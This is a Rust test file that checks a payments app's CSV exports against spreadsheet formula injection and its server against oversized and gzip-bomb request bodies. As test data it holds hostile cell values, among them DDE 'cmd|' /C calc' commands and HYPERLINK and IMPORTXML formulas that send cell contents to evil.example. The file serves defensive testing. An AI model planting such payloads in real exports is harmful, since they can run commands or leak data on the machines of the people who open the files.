//! What leaves as a table is no formula (reliability W13, exports): the accountant's file and the file
//! of links, with hostile texts in every cell; amounts stay numbers.

use app::creditor::Role;
use app::routes::pattern;
use domain::ids::CaseId;
use server::store::payment;
use server::use_cases::payment::elsewhere::{self, Recorded};
use tempfile::TempDir;
use tokio::process::Command;

use crate::debtor_access::newcomer;
use crate::engine::on_both_engines;
use crate::portal::{TestPortal, pen, scratch};
use crate::size::size;
use crate::team::sign_in;
use crate::world::{aldia, config};

/// What a spreadsheet takes for the beginning of a formula, or of another cell.
const BEGINNINGS: [&str; 7] = ["=", "+", "-", "@", "\t", "\r", "\t="];

/// What may stand behind it.
const RESTS: [&str; 8] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example?\"&A1;\"x\")",
    "IMPORTXML(CONCAT(\"//evil.example/\",A2),\"//a\")",
    "2+5+cmd|' /C calc'!A0\r\n=1+1",
    "a;b,c\"d\"\"e",
    "",
    "\u{a0}=1",
];

fn hostile(n: usize) -> String {
    format!("{}{}", BEGINNINGS[n % BEGINNINGS.len()], RESTS[n / BEGINNINGS.len() % RESTS.len()])
}

/// One payment of somebody with a hostile name and a hostile note; every third was taken back.
async fn pay(portal: &TestPortal, n: usize) -> CaseId {
    let clinic = portal.clinic.clone();
    let number = format!("{n:04}");
    let (case, _) = newcomer(portal, &clinic, (&hostile(n), &number), pen(10_000)).await;
    let new = Recorded {
        amount: pen(1_234),
        received_on: "2026-11-20".parse().expect("a day"),
        debt: None,
        note: hostile(n * 5 + 2),
        who: "x".into(),
        key: number,
    };
    elsewhere::record(&portal.portal, &clinic, &case, &new).await.expect("recorded");
    if n.is_multiple_of(3) {
        let mut conn = portal.portal.store.read().await.expect("a connection");
        let paid = payment::of_case(&mut conn, &clinic, &case).await.expect("payments");
        drop(conn);
        let which = (&case, &paid[0].id);
        elsewhere::reverse(&portal.portal, &clinic, which, ("doble", "x")).await.expect("reversed");
    }
    case
}

/// Whether a spreadsheet would take the cell for a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0'])
}

fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    digits.chars().all(|c| c.is_ascii_digit() || c == '.') && digits.parse::<f64>().is_ok()
}

on_both_engines! {
    async fn the_accountants_file_has_no_formula_and_its_amounts_are_numbers(portal) {
        let payments = size(170, 500);
        for n in 0..payments {
            pay(portal, n).await;
        }
        let clinic = portal.clinic.clone();
        let mut owner = sign_in(portal, &clinic, ("olga@example.pe", Role::Owner)).await;
        let path = format!("{}?from=2026-11-01&to=2026-11-30", pattern::TEAM_PAYMENTS_CSV);
        let page = owner.get(&path).await;
        assert_eq!(page.headers["content-type"], "text/csv; charset=utf-8");
        let file = page.headers["content-disposition"].to_str().expect("ASCII");
        assert!(file.starts_with("attachment; filename=\""), "{file}");
        let text = page.body.strip_prefix('\u{feff}').unwrap_or(&page.body);
        let mut csv = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let (mut rows, mut negative) = (0, 0);
        for record in csv.records() {
            let record = record.expect("it reads");
            assert_eq!(record.len(), 14);
            assert!(!record[4].is_empty(), "the invoices that it paid");
            for (at, cell) in record.iter().enumerate() {
                if matches!(at, 5 | 10 | 11 | 12) {
                    assert!(cell.is_empty() || is_number(cell), "{cell:?} in column {at}");
                    negative += usize::from(cell.starts_with('-'));
                } else {
                    assert!(!is_formula(cell) && !cell.contains('\0'), "{cell:?} in column {at}");
                }
            }
            rows += 1;
        }
        assert_eq!((rows, negative), (payments, payments.div_ceil(3)));
    }

    async fn the_file_of_links_has_no_formula(portal) {
        for n in 0..BEGINNINGS.len() * RESTS.len() {
            pay(portal, n).await;
        }
        let folder = TempDir::new_in(scratch()).expect("a folder");
        let here = config(&portal.portal, folder.path(), None);
        let out = folder.path().join("links.csv");
        let arguments = ["links", "--creditor", "san-borja", "--out", out.to_str().expect("UTF-8")];
        let done = Command::from(aldia(&here, &arguments)).output().await.expect("it runs");
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        let mode = std::fs::metadata(&out).expect("a file").permissions();
        assert_eq!(std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777, 0o600);
        let mut csv = csv::Reader::from_path(&out).expect("it opens");
        let mut rows = 0;
        for record in csv.records() {
            let record = record.expect("it reads");
            assert!(record.iter().all(|cell| !is_formula(cell)), "{record:?}");
            rows += 1;
        }
        assert_eq!(rows, BEGINNINGS.len() * RESTS.len());
    }

    async fn a_body_beyond_its_limit_is_not_taken(portal) {
        let mut browser = portal.browser();
        let form = |length: usize| [("email", "x".repeat(length - "email=".len()))];
        for (length, expected) in [(64 * 1024, 422), (64 * 1024 + 1, 413), (512 * 1024, 413)] {
            let fields = form(length);
            let page = browser.post(pattern::TEAM_SIGN_IN, &[(fields[0].0, &fields[0].1)]).await;
            assert_eq!(page.status, expected, "{length}");
        }
        let event = browser.request(reqwest::Method::POST, pattern::STRIPE_WEBHOOK);
        // Who sends this much may find the connection closed before the answer.
        if let Ok(answer) = event.body(vec![b'{'; 2 * 1024 * 1024 + 1]).send().await {
            assert_eq!(answer.status(), 413);
        }
    }

    async fn a_body_that_unpacks_to_more_is_not_unpacked(portal) {
        // 1 kB of gzip that stands for 1 MB of `text=aaaa…` would be 1,000 times its size.
        let mut browser = portal.browser();
        let bomb = browser
            .request(reqwest::Method::POST, pattern::TEAM_SIGN_IN)
            .header("origin", &portal.base)
            .header("content-type", "application/x-www-form-urlencoded")
            .header("content-encoding", "gzip")
            .body(vec![0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 2, 3]);
        let page = browser.send(bomb).await;
        assert!((400..500).contains(&page.status.as_u16()), "{}", page.status);
    }
}
